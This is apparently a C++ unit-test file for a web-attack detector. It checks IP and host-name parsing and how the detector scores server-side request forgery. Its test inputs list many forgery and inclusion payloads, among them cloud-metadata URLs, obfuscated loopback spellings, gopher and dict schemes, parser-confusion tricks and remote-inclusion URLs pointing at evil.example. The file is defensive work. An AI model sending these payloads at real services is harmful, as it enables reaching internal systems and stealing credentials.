#include <gtest/gtest.h>

#include "address/host_name.h"
#include "address/net_address.h"
#include "judging/family_checks_test.h"

namespace quell::attack {
namespace {

double forgery(std::string_view target) {
  return score_of(Technique::kRequestForgery, Where::kTarget, target);
}

TEST(NetAddress, SpellingsOfIpv4) {
  for (const char* text : {"127.0.0.1", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0x7f.1",
                           "6425673729", "383.256.256.257", "127.0.0.1.", "0"}) {
    const auto address = read_ipv4(text);
    ASSERT_TRUE(address) << text;
    EXPECT_EQ(address->reach, Reach::kLoopback) << text;
  }
  EXPECT_FALSE(read_ipv4("127.0.0.1")->odd);
  EXPECT_TRUE(read_ipv4("127.1")->odd);
  EXPECT_TRUE(read_ipv4("383.256.256.257")->odd);
  EXPECT_EQ(read_ipv4("172.31.255.255")->reach, Reach::kPrivate);
  EXPECT_EQ(read_ipv4("172.32.0.0")->reach, Reach::kPublic);
  EXPECT_EQ(read_ipv4("7147006462")->reach, Reach::kMetadata);
  for (const char* text : {"", ".", "1..2", "1.2.3.4.5", "0x", "0xg", "12a", "a.b.c.d", "1.2.3.",
                           "99999999999999999999999999", "-1"}) {
    if (std::string_view(text) == "1.2.3.") continue;  // a final dot is allowed
    EXPECT_FALSE(read_ipv4(text)) << text;
  }
}

TEST(NetAddress, Ipv6) {
  EXPECT_EQ(read_ipv6("::1")->reach, Reach::kLoopback);
  EXPECT_EQ(read_ipv6("::")->reach, Reach::kLoopback);
  EXPECT_EQ(read_ipv6("0:0:0:0:0:0:0:1")->reach, Reach::kLoopback);
  EXPECT_EQ(read_ipv6("::ffff:127.0.0.1")->reach, Reach::kLoopback);
  EXPECT_EQ(read_ipv6("::ffff:a9fe:a9fe")->reach, Reach::kMetadata);
  EXPECT_EQ(read_ipv6("64:ff9b::10.0.0.1")->reach, Reach::kPrivate);
  EXPECT_EQ(read_ipv6("2002:7f00:1::")->reach, Reach::kLoopback);
  EXPECT_EQ(read_ipv6("fd00:ec2::254")->reach, Reach::kMetadata);
  EXPECT_EQ(read_ipv6("fe80::1%25eth0")->reach, Reach::kPrivate);
  EXPECT_EQ(read_ipv6("2001:db8::1")->reach, Reach::kPublic);
  for (const char* text : {"", ":", ":::", "1:2:3", "1::2::3", "12345::", "::g", "::1.2.3",
                           "1:2:3:4:5:6:7:8:9", "::1.2.3.4.5", "::256.0.0.1"}) {
    EXPECT_FALSE(read_ipv6(text)) << text;
  }
}

TEST(HostName, KindsOfHosts) {
  EXPECT_EQ(facts_of_host("LOCALHOST").kind, HostKind::kLoopback);
  EXPECT_EQ(facts_of_host("a.localhost").kind, HostKind::kLoopback);
  EXPECT_EQ(facts_of_host("notlocalhost").kind, HostKind::kSingleLabel);
  EXPECT_EQ(facts_of_host("db.corp.local").kind, HostKind::kInnerName);
  EXPECT_EQ(facts_of_host("local.example").kind, HostKind::kPublicName);
  EXPECT_EQ(facts_of_host("kubernetes.default.svc").kind, HostKind::kClusterName);
  EXPECT_EQ(facts_of_host("metadata.google.internal.").kind, HostKind::kMetadata);
  EXPECT_EQ(facts_of_host("www.10.0.0.1.nip.io").kind, HostKind::kPrivateAddress);
  EXPECT_EQ(facts_of_host("app-10-0-0-1.sslip.io").kind, HostKind::kPrivateAddress);
  EXPECT_EQ(facts_of_host("a9fea9fe.nip.io").kind, HostKind::kMetadata);
  EXPECT_EQ(facts_of_host("1.1.1.1.nip.io").kind, HostKind::kPublicName);
  EXPECT_EQ(facts_of_host("ec2-10-0-0-1.compute.example").kind, HostKind::kPublicName);
  EXPECT_EQ(facts_of_host("x.oast.fun").kind, HostKind::kTestCatcher);
  EXPECT_EQ(facts_of_host("[::1]").kind, HostKind::kLoopback);
  EXPECT_EQ(facts_of_host("\xe2\x91\xa0\xe2\x91\xa1\xe2\x91\xa6.0.0.1").kind, HostKind::kLoopback);
  EXPECT_EQ(facts_of_host(std::string_view("127.0.0.1\0.x", 12)).kind, HostKind::kLoopback);
  EXPECT_EQ(facts_of_host("").kind, HostKind::kNone);
  EXPECT_EQ(facts_of_host("-._").kind, HostKind::kNone);
  EXPECT_EQ(facts_of_host(std::string(300, 'a')).kind, HostKind::kNone);
}

class IsForgery : public testing::TestWithParam<const char*> {};
TEST_P(IsForgery, InATarget) {
  EXPECT_GE(forgery(GetParam()), kAttackScore) << GetParam();
}
INSTANTIATE_TEST_SUITE_P(
    Hosts, IsForgery,
    testing::Values("/f?url=http://169.254.169.254/latest/meta-data/",
                    "/f?x=http%3A%2F%2F2852039166%2F", "/f?x=http://0xa9fea9fe/",
                    "/f?x=http://[::ffff:169.254.169.254]/", "/f?x=http://127.0.0.1:6379/",
                    "/f?x=http://localhost/admin", "/f?src=http://10.1.2.3/",
                    "/f?src=http://redis:6379/", "/f?x=http://db.service.consul:8500/v1/kv",
                    "/f?x=http://127.0.0.1.nip.io/", "/f?x=http://localtest.me/",
                    "/f?x=http://%E2%93%9B%E2%93%9E%E2%93%92%E2%93%90%E2%93%9B%E2%93%97%E2%93%9E"
                    "%E2%93%A2%E2%93%A3/",
                    "/f?x=http://a.oastify.com/", "/f?url=localhost:8080/x",
                    "/f?url=//169.254.169.254/", "/f?next=http://169.254.169.254/"));
INSTANTIATE_TEST_SUITE_P(
    SpellingsAndSchemes, IsForgery,
    testing::Values("/f?x=gopher://127.0.0.1:25/_x", "/f?x=dict://a.example:11211/stats",
                    "/f?x=jar:http://127.0.0.1/x!/", "/f?x=ldap://localhost:389/",
                    "/f?x=http:/127.0.0.1/", "/f?x=http:127.0.0.1", "/f?x=http:%5C%5C127.0.0.1%5C",
                    "/f?x=http://a.example@127.0.0.1/", "/f?x=http://127.0.0.1%23@a.example/",
                    "/f?x=http://127.0.0.1%2500.a.example", "/proxy/http://169.254.169.254/latest",
                    "/f?x=http%253A%252F%252F127.0.0.1/"));
INSTANTIATE_TEST_SUITE_P(Inclusion, IsForgery,
                         testing::Values("/i.php?page=http://evil.example/x.txt?",
                                         "/i.php?page=http://evil.example/x.txt??",
                                         "/i.php?inc_dir=ftp://evil.example/x.txt%00"));

class IsNoForgery : public testing::TestWithParam<const char*> {};
TEST_P(IsNoForgery, InATarget) {
  EXPECT_LT(forgery(GetParam()), kAttackScore) << GetParam();
}
INSTANTIATE_TEST_SUITE_P(
    Ordinary, IsNoForgery,
    testing::Values("/f?url=https://www.example.com/a.png",
                    "/o?redirect_uri=http://localhost:3000/cb",
                    "/o?redirect_uri=http://127.0.0.1:51234/", "/c?dl=http://localhost:8000/x",
                    "/c?dr=http://192.168.0.5/wiki", "/c?referrer=http://jira.corp.local/x",
                    "/s?q=see+http://localhost:8080/+for+more", "/h?ip=192.168.0.5&host=10.0.0.1",
                    "/h?version=1.2.3.4", "/h?url=/local/path", "/h?url=about:blank",
                    "/h?href=1007.40986.275655.0", "/h?n=2130706433", "/s?q=//+comment",
                    "/f?x=urn:isbn:978", "/f?x=mailto:a@localhost", "/docs/127.0.0.1/",
                    "/wayback/2020/http://example.com/", "/i.php?page=https://a.example/n.html",
                    "/i?return=https://a.example/index.php?", "/f?x=12:30:45"));

TEST(RequestForgery, HeadersThatTellWhereAVisitorCameFrom) {
  const Classification said = classify_request(
      {.method = "GET", .target = "/", .referer = "http://127.0.0.1:8080/x", .user_agent = "x"});
  EXPECT_FALSE(said.is_attack());
  EXPECT_LT(score_of(Technique::kRequestForgery, Where::kHeader, "http://10.0.0.1/x"),
            kAttackScore);
}

TEST(RequestForgery, MembersOfJson) {
  EXPECT_GE(score_of(Technique::kRequestForgery, Where::kBody,
                     R"({"hook":{"url":"http://127.0.0.1:5984/"}})"),
            kAttackScore);
  EXPECT_LT(score_of(Technique::kRequestForgery, Where::kBody,
                     R"({"csp-report":{"blocked-uri":"http://127.0.0.1:5984"}})"),
            kAttackScore);
}

TEST(RequestForgery, HostileValues) {
  using namespace std::string_view_literals;
  expect_bounded(Technique::kRequestForgery,
                 std::to_array({"http://"sv, "://"sv, "a:/"sv, "http://@"sv, "http://[::"sv,
                                "jar:"sv, "http://1.1.1.1."sv, "gopher://x "sv, "\xe2\x91\xa0"sv,
                                "http://a&@#\\"sv, "//"sv, "1-"sv}));
}

}  // namespace
}  // namespace quell::attack
